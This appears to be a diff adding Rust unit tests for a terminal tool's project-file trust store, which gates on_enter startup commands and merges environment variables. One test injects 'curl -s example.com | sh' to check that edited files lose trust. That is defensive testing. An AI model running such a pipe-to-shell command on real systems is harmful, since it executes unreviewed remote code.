@@ -0,0 +1,118 @@
+use antraft::terminal::project::{init_commands, merged_env, ProjectConfig, ProjectFile, Trust, TrustStore, PROJECT_FILE};
+use std::collections::{BTreeMap, HashMap};
+use std::path::Path;
+use tempfile::TempDir;
+
+fn strings(items: &[&str]) -> Vec<String> {
+    items.iter().map(|item| item.to_string()).collect()
+}
+
+fn write_project(dir: &Path, content: &str) -> ProjectFile {
+    std::fs::write(dir.join(PROJECT_FILE), content).unwrap();
+    ProjectFile::find(dir).unwrap().expect("project file")
+}
+
+const PROJECT: &str = r#"
+on_enter = ["nvm use", "git fetch --quiet"]
+
+[env]
+RUST_LOG = "debug"
+"#;
+
+#[test]
+fn finds_the_nearest_project_file_above_the_directory() {
+    let dir = TempDir::new().unwrap();
+    let nested = dir.path().join("src/bin");
+    std::fs::create_dir_all(&nested).unwrap();
+    assert!(ProjectFile::find(&nested).unwrap().is_none());
+
+    write_project(dir.path(), PROJECT);
+    let file = ProjectFile::find(&nested).unwrap().expect("project file");
+    assert_eq!(file.path, dir.path().join(PROJECT_FILE));
+    assert_eq!(file.config.on_enter, strings(&["nvm use", "git fetch --quiet"]));
+    assert_eq!(file.config.env.get("RUST_LOG").map(String::as_str), Some("debug"));
+
+    std::fs::write(dir.path().join(PROJECT_FILE), "on_enter = \"not a list\"").unwrap();
+    assert!(ProjectFile::find(&nested).is_err());
+}
+
+#[test]
+fn untrusted_project_files_are_ignored() {
+    let dir = TempDir::new().unwrap();
+    let file = write_project(dir.path(), PROJECT);
+    let mut trust = TrustStore::new(&dir.path().join("trust.json"));
+    let startup = strings(&["echo hi"]);
+
+    assert_eq!(trust.check(&file), Trust::Unknown);
+    assert!(trust.allowed(Some(&file)).is_none());
+    assert_eq!(init_commands(&startup, trust.allowed(Some(&file))), strings(&["echo hi"]));
+
+    trust.decide(&file, false).unwrap();
+    assert_eq!(trust.check(&file), Trust::Denied);
+    assert!(trust.allowed(Some(&file)).is_none());
+
+    trust.decide(&file, true).unwrap();
+    assert_eq!(trust.check(&file), Trust::Allowed);
+    assert_eq!(
+        init_commands(&startup, trust.allowed(Some(&file))),
+        strings(&["echo hi", "nvm use", "git fetch --quiet"])
+    );
+    assert!(trust.allowed(None).is_none());
+}
+
+#[test]
+fn trust_is_tied_to_the_file_content() {
+    let dir = TempDir::new().unwrap();
+    let store = dir.path().join("data/trust.json");
+    let file = write_project(dir.path(), PROJECT);
+    TrustStore::new(&store).decide(&file, true).unwrap();
+
+    let trust = TrustStore::load(&store).unwrap();
+    assert_eq!(trust.check(&file), Trust::Allowed);
+
+    let edited = write_project(dir.path(), &PROJECT.replace("nvm use", "curl -s example.com | sh"));
+    assert_eq!(trust.check(&edited), Trust::Unknown);
+    assert!(trust.allowed(Some(&edited)).is_none());
+
+    let restored = write_project(dir.path(), PROJECT);
+    assert_eq!(trust.check(&restored), Trust::Allowed);
+
+    let other = TempDir::new().unwrap();
+    let elsewhere = write_project(other.path(), PROJECT);
+    assert_eq!(trust.check(&elsewhere), Trust::Unknown);
+}
+
+#[test]
+fn startup_commands_run_before_on_enter_in_order() {
+    let project = ProjectConfig {
+        on_enter: strings(&["  nvm use ", "", "make deps"]),
+        env: BTreeMap::new(),
+    };
+    let startup = strings(&["source .env", "   ", "clear"]);
+
+    assert_eq!(
+        init_commands(&startup, Some(&project)),
+        strings(&["source .env", "clear", "nvm use", "make deps"])
+    );
+    assert_eq!(init_commands(&startup, None), strings(&["source .env", "clear"]));
+    assert_eq!(init_commands(&[], Some(&project)), strings(&["nvm use", "make deps"]));
+}
+
+#[test]
+fn project_env_overrides_the_session_env() {
+    let session: HashMap<String, String> = [("RUST_LOG", "info"), ("HOME", "/home/me")]
+        .iter()
+        .map(|(key, value)| (key.to_string(), value.to_string()))
+        .collect();
+    let project: BTreeMap<String, String> = [("RUST_LOG", "debug"), ("VIRTUAL_ENV", ".venv")]
+        .iter()
+        .map(|(key, value)| (key.to_string(), value.to_string()))
+        .collect();
+
+    let env = merged_env(&session, &project);
+    assert_eq!(env.len(), 3);
+    assert_eq!(env["RUST_LOG"], "debug");
+    assert_eq!(env["HOME"], "/home/me");
+    assert_eq!(env["VIRTUAL_ENV"], ".venv");
+    assert_eq!(merged_env(&session, &BTreeMap::new()), session);
+}